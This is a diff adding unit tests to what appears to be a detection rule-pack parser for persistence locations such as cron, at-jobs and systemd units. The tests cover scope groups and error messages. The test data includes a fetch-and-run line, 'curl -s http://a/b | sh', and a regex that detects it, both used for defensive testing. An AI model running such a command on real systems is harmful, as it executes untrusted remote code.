@@ -63,12 +63,34 @@ describe('rule packs', () => {
     expect(() => parseRulePack(`fragments:\n  a: x\n  b: '(?&a)y'\n${ok}`, 'g.yaml')).toThrow(/g\.yaml:3: fragment b may not refer to another fragment/);
   });
 
+  it('expands a pack\'s scope groups, groups within groups included, each scope once', () => {
+    const withGroups = `scope-groups:\n  jobs: [cron, at-job]\n  commands: [jobs, script, cron]\n${ok.replace('scopes: [cron]', 'scopes: [commands, ssh-key]')}`;
+    const rule = parseRulePack(withGroups, 'g.yaml').rules[0]!;
+    expect(rule.match.kind === 'content' && rule.match.scopes).toEqual(['cron', 'at-job', 'script', 'ssh-key']);
+    const rules = new RuleSet([parseRulePack(withGroups, 'g.yaml')]);
+    expect(rules.matchLines('at-job', '/var/spool/cron/atjobs/a', 'curl -s http://a/b | sh')).toHaveLength(1);
+    expect(rules.matchLines('sudoers', '/etc/sudoers', 'curl -s http://a/b | sh')).toHaveLength(0);
+  });
+
+  it('reads every command-line rule in every place that runs command lines', async () => {
+    const rules = await RuleSet.load();
+    const places = ['cron', 'systemd-unit', 'init-script', 'script', 'at-job', 'cloud-init', 'shell-startup', 'udev-rule'];
+    const commandRules = rules.all().filter((r) => r.id.startsWith('command.') && r.match.kind === 'content');
+    expect(commandRules.length).toBeGreaterThan(20);
+    for (const r of commandRules) if (r.match.kind === 'content') expect(r.match.scopes, r.id).toEqual(expect.arrayContaining(places));
+  });
+
   it.each([
     ['an unknown severity', ok.replace('severity: high', 'severity: severe'), 5, /severity/],
     ['a bad regex', ok.replace(`'curl[^|]*\\|\\s*sh'`, `'curl(('`), 11, /regex/],
     ['an unknown scope', ok.replace('[cron]', '[crontab]'), 10, /unknown content scope "crontab"/],
     ['an unknown field', ok.replace('category:', 'categroy:'), 4, /unknown field "categroy"/],
     ['broken YAML', ok.replace('rules:', 'rules: [').replace('  - id', '  -- id'), undefined, /.+/],
+    ['an unknown scope in a group', `scope-groups:\n  jobs: [cron, crontab]\n${ok}`, 2, /scope group jobs: unknown content scope "crontab"/],
+    ['a group used before it is defined', `scope-groups:\n  all: [jobs]\n  jobs: [cron]\n${ok}`, 2, /scope group all: unknown content scope "jobs"/],
+    ['a group named like a scope', `scope-groups:\n  cron: [at-job]\n${ok}`, 2, /scope group "cron" has the name of a content scope/],
+    ['an empty group', `scope-groups:\n  jobs: []\n${ok}`, 2, /scope group jobs must be a non-empty list/],
+    ['a rule naming a group the pack lacks', `scope-groups:\n  jobs: [cron]\n${ok.replace('scopes: [cron]', 'scopes: [job]')}`, 12, /unknown content scope "job".*groups defined above: jobs/],
   ])('rejects %s naming the file and line', (_what, text, line, msg) => {
     let err: unknown;
     try {
